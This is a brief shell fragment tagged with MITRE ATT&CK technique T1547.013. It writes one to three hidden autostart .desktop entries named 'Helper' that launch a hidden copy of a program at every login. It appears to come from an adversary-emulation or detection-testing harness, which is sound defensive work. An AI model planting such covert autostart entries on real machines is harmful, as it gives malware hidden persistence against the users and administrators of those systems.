# T1547.013 by shell commands.
groundwork
hide_copy
rnd 1 3; n=$r
while [ "$n" -gt 0 ]; do printf '[Desktop Entry]\nType=Application\nName=Helper\nExec=%s\nHidden=true\n' "$HOME/$copy" > ".config/autostart/$state-$n.desktop"; n=$((n - 1)); done
report
